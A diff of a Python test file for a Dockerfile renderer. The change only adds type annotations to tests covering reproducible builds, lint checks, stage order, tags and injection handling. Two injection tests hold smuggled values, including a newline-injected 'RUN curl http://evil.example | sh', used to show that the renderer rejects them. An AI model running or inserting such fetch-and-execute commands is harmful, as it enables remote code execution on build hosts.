@@ -25,7 +25,7 @@ PROJECT = Path(__file__).resolve().parents[2]
 
 
 @pytest.fixture(scope="module")
-def stack_pins(tmp_path_factory) -> Path:
+def stack_pins(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """pins/demo.yaml copied next to a freshly generated demo stack, base set to a fixed digest."""
     root = tmp_path_factory.mktemp("render")
     make_stack(root / "demo-stack")
@@ -33,7 +33,7 @@ def stack_pins(tmp_path_factory) -> Path:
     return write_local_pins(FAKE_BASE, out=root / "demo.yaml")
 
 
-def resolve_render(path, settings=SETTINGS):
+def resolve_render(path, settings: Settings=SETTINGS):
     pins = pins_mod.load(path)
     resolved = sources.resolve(pins, settings)
     return pins, resolved, render.render(pins, resolved, settings)
@@ -55,7 +55,8 @@ def contents(context_path, prefix) -> dict[str, str]:
                 for m in tar.getmembers() if m.name.startswith(prefix) and m.isfile()}
 
 
-def test_render_is_byte_identical_across_runs_cwd_and_cache_dir(rendered, stack_pins, tmp_path, monkeypatch):
+def test_render_is_byte_identical_across_runs_cwd_and_cache_dir(rendered, stack_pins, tmp_path: Path,
+                                                                monkeypatch: pytest.MonkeyPatch) -> None:
     first = rendered[2]
     again = resolve_render(stack_pins)[2]
     assert again.dockerfile == first.dockerfile
@@ -74,7 +75,7 @@ def test_render_is_byte_identical_across_runs_cwd_and_cache_dir(rendered, stack_
     assert hashlib.sha256(Path(moved.context_path).read_bytes()).hexdigest() == first.context_sha256
 
 
-def test_dockerfile_passes_lint_and_lint_catches_planted_defects(rendered):
+def test_dockerfile_passes_lint_and_lint_catches_planted_defects(rendered) -> None:
     text = rendered[2].dockerfile
     assert dockerfile.lint(text) == []
     assert "git clone" not in text and "--mount" not in text
@@ -93,7 +94,7 @@ def test_dockerfile_passes_lint_and_lint_catches_planted_defects(rendered):
         assert problems and any(what in p for p in problems), (line, problems)
 
 
-def test_install_order_one_stage_per_component_and_runtime_copies(rendered):
+def test_install_order_one_stage_per_component_and_runtime_copies(rendered) -> None:
     pins, _, built = rendered
     groups = [g for g, _ in dockerfile.instructions(built.dockerfile)]
     order = list(dict.fromkeys(groups))
@@ -128,7 +129,7 @@ def test_install_order_one_stage_per_component_and_runtime_copies(rendered):
                          re.M)  # the runtime stage copies nothing of the compiler cache
 
 
-def test_context_is_normalised_sorted_and_complete(rendered):
+def test_context_is_normalised_sorted_and_complete(rendered) -> None:
     pins, resolved, built = rendered
     found = members(built.context_path)
     names = list(found)
@@ -155,7 +156,7 @@ def test_context_is_normalised_sorted_and_complete(rendered):
         assert exported == expected
 
 
-def test_verl_only_change_keeps_everything_before_the_verl_stage(rendered, stack_pins, tmp_path):
+def test_verl_only_change_keeps_everything_before_the_verl_stage(rendered, stack_pins, tmp_path: Path) -> None:
     _, _, first = rendered
     pins, _, changed = resolve_render(variant_pins(tmp_path, "verl", 34, pins_path=stack_pins))
     before, after = first.dockerfile.split("# stage: verl")[0], changed.dockerfile.split("# stage: verl")[0]
@@ -167,7 +168,7 @@ def test_verl_only_change_keeps_everything_before_the_verl_stage(rendered, stack
     assert changed.tag.endswith(f".verl-{pins.components['verl'].commit[:12]}")
 
 
-def test_sha_tag_and_labels(rendered):
+def test_sha_tag_and_labels(rendered) -> None:
     pins, resolved, built = rendered
     tag = render.sha_tag(pins)
     assert re.fullmatch(r"vllm-[0-9a-f]{12}\.megatron-[0-9a-f]{12}\.verl-[0-9a-f]{12}", tag)
@@ -186,7 +187,7 @@ def test_sha_tag_and_labels(rendered):
         assert f'"io.truepolicy.{name}.commit"="{pins.components[name].commit}"' in built.dockerfile
 
 
-def test_dq_quotes_and_refuses_line_breaks():
+def test_dq_quotes_and_refuses_line_breaks() -> None:
     assert dockerfile.dq('a"b') == '"a\\"b"'
     assert dockerfile.argv(["x", "y z"]) == '["x", "y z"]'
     for bad in ("a\nRUN curl evil", "a\rb", "${HOME}", "a\x00b"):
@@ -203,7 +204,7 @@ def _bypass(pins, component="verl", pip_args=None, env=None):
     return pins.model_copy(update={"components": comps})
 
 
-def test_injection_in_pins_never_reaches_the_dockerfile(rendered, stack_pins):
+def test_injection_in_pins_never_reaches_the_dockerfile(rendered, stack_pins) -> None:
     pins, resolved, _ = rendered
     evil = "--no-deps\nRUN curl http://evil.example | sh"
     data = pins_mod.read_yaml(Path(stack_pins).read_text())
@@ -219,7 +220,7 @@ def test_injection_in_pins_never_reaches_the_dockerfile(rendered, stack_pins):
         render.render(pins.model_copy(update={"base": base}), resolved, SETTINGS)
 
 
-def test_a_cmake_component_may_not_set_the_toolchain_itself(rendered):
+def test_a_cmake_component_may_not_set_the_toolchain_itself(rendered) -> None:
     pins = rendered[0]
     bad = pins.model_copy(deep=True)
     bad.components.vllm.install.env["CMAKE_TOOLCHAIN_FILE"] = "/tmp/mine.cmake"
